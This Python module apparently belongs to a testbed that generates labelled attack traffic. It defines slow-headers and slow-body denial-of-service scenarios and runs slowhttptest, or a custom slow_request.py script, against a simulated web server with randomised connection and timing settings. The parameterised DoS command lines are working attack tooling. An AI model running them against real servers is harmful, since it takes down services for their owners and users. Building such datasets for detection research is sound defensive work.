"""Slow HTTP attacks with headers or a body that never end, using slowhttptest and our own script.

An instance opens 20 to 50 connections with various durations; the server's timeouts close some of them earlier."""

from ..scenario import scenario
from .aim import LOGIN_PATH, SEARCH_PATH, bracketed, choose_address, planned_target


def _plan(rng, world, share6):
    connections = rng.randint(24, 48)
    hold = rng.randint(15, 55)
    return {
        "seconds": hold + 20,
        "address": choose_address(rng, world.web, share6),
        "port": world.web.port,
        "path": rng.choice(("/", SEARCH_PATH, LOGIN_PATH)),
        "connections": connections,
        "per_second": rng.choice((3, 8, 20, 50)),
        "hold": hold,
        "interval": rng.choice((2, 4, 7, 11)),
    }


def _plan_test(rng, world):
    return {**_plan(rng, world, 0.0), "longest_follow_up": rng.choice((8, 16, 32, 64)), "length": rng.choice((512, 4096, 16384))}


def _slowhttptest(ctx, parameters, mode, *options):
    url = f"http://{bracketed(parameters['address'])}:{parameters['port']}{parameters['path']}"
    done = ctx.exec(
        ["slowhttptest", mode, "-c", parameters["connections"], "-r", parameters["per_second"], "-i", parameters["interval"]]
        + ["-l", parameters["hold"], "-x", parameters["longest_follow_up"], "-s", parameters["length"], "-p", 3, *options, "-u", url],
        timeout=parameters["hold"] + 12,
    )
    ctx.note("exit", done.returncode)


def _plan_own(rng, world):
    return {**_plan(rng, world, 0.15), "jitter": rng.choice((0.0, 0.3, 0.8)), "longest_piece": rng.choice((1, 6, 24, 80)), "seed": rng.randrange(1 << 30)}


def _own(ctx, parameters, mode):
    done = ctx.script(
        "slow_request.py", mode, parameters["address"], parameters["port"], "--path", parameters["path"],
        "--connections", parameters["connections"], "--per-second", parameters["per_second"], "--hold", parameters["hold"],
        "--interval", parameters["interval"], "--jitter", parameters["jitter"], "--longest-piece", parameters["longest_piece"],
        "--seed", parameters["seed"], timeout=parameters["hold"] + 15,
    )
    ctx.note("output", done.stdout.strip()[-200:])


@scenario("slow-headers-slowhttptest", "DoS slow headers", "slowhttptest -H", "attacker", _plan_test, planned_target)
def headers_test(ctx, parameters):
    _slowhttptest(ctx, parameters, "-H")


@scenario("slow-headers-script", "DoS slow headers", "own script slow_request.py", "attacker", _plan_own, planned_target, held_out=True)
def headers_own(ctx, parameters):
    _own(ctx, parameters, "headers")


@scenario("slow-body-slowhttptest", "DoS slow body", "slowhttptest -B", "attacker", _plan_test, planned_target)
def body_test(ctx, parameters):
    _slowhttptest(ctx, parameters, "-B", "-t", "POST")


@scenario("slow-body-script", "DoS slow body", "own script slow_request.py", "attacker", _plan_own, planned_target, held_out=True)
def body_own(ctx, parameters):
    _own(ctx, parameters, "body")
